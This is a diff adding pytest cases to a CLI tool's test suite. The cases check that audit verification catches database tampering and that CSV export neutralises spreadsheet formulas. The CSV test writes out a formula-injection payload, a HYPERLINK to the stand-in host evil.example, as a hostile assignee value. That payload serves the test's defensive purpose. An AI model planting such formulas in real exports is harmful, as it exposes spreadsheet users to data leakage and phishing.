@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import sqlite3
 
@@ -90,6 +92,57 @@ def test_audit_verify_detects_a_tampered_store(runner, cli, collected):
     db.close()
     bad = runner.invoke(cli, ["audit", "verify"])
     assert bad.exit_code == 1 and "BROKEN at event 2" in bad.output and "altered" in bad.output
+
+
+def test_audit_verify_names_the_findings_that_disagree_with_their_history(runner, cli, collected):
+    runner.invoke(cli, ["evaluate"], catch_exceptions=False)
+    db = sqlite3.connect(collected / ".dialtone" / "dialtone.db")
+    (n,) = db.execute("SELECT count(*) FROM findings").fetchone()
+    ok = runner.invoke(cli, ["audit", "verify"], catch_exceptions=False)
+    assert ok.exit_code == 0 and ok.stdout.endswith(f"findings OK: {n} agree with their history\n")
+    with db:     # a finding closed by hand in the database, no event
+        (fid,) = db.execute("SELECT min(id) FROM findings").fetchone()
+        db.execute("UPDATE findings SET status = 'resolved' WHERE id = ?", (fid,))
+    db.close()
+    bad = runner.invoke(cli, ["audit", "verify"], catch_exceptions=False)
+    assert bad.exit_code == 1
+    assert "chain OK" in bad.stdout
+    assert bad.stderr == (f"findings BROKEN: 1 of {n} disagree with their history (the first: {fid})\n"
+                          f"  finding {fid}: status is 'resolved', its history says 'open'\n")
+
+
+def test_audit_verify_fails_on_an_emptied_history_and_a_missing_head(runner, cli, collected):
+    runner.invoke(cli, ["evaluate"], catch_exceptions=False)
+    db = sqlite3.connect(collected / ".dialtone" / "dialtone.db")
+    (n,) = db.execute("SELECT count(*) FROM findings").fetchone()
+    with db:     # the whole history deleted, the head put back to the start
+        db.execute("DELETE FROM events")
+        db.execute("UPDATE chain_head SET seq = 0, hash = ?", ("0" * 64,))
+    emptied = runner.invoke(cli, ["audit", "verify"], catch_exceptions=False)
+    assert emptied.exit_code == 1
+    assert f"findings BROKEN: the store holds {n} findings but no history" in emptied.stderr
+    with db:     # no head at all
+        db.execute("DELETE FROM chain_head")
+    db.close()
+    headless = runner.invoke(cli, ["audit", "verify"], catch_exceptions=False)
+    assert headless.exit_code == 1
+    assert headless.stderr.startswith("chain BROKEN: the chain head is missing (table chain_head has no "
+                                      "row 1)")
+    refused = runner.invoke(cli, ["findings", "comment", "1", "hello"], catch_exceptions=False)
+    assert refused.exit_code == 2 and "error: the chain head is missing" in refused.output
+
+
+def test_findings_csv_cells_cannot_run_as_spreadsheet_formulas(runner, cli, collected):
+    # C-3: an assignee written as a formula reached the CSV raw.
+    runner.invoke(cli, ["evaluate"], catch_exceptions=False)
+    rows = _json(runner, cli, "findings", "list")
+    evil = '=HYPERLINK("http://evil.example/?x","click")'
+    for row, who in zip(rows[:2], (evil, "@SUM(1+1)"), strict=True):
+        runner.invoke(cli, ["findings", "assign", str(row["id"]), who], catch_exceptions=False)
+    result = runner.invoke(cli, ["findings", "list", "--format", "csv"], catch_exceptions=False)
+    got = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
+    assert sorted(r["assignee"] for r in got if r["assignee"]) == ["'" + evil, "'@SUM(1+1)"]
+    assert all(r["savings"] == "" or float(r["savings"]) >= 0 for r in got)   # numbers stay numbers
 
 
 def test_an_out_of_date_store_is_refused_and_db_upgrade_says_so(runner, cli, collected):
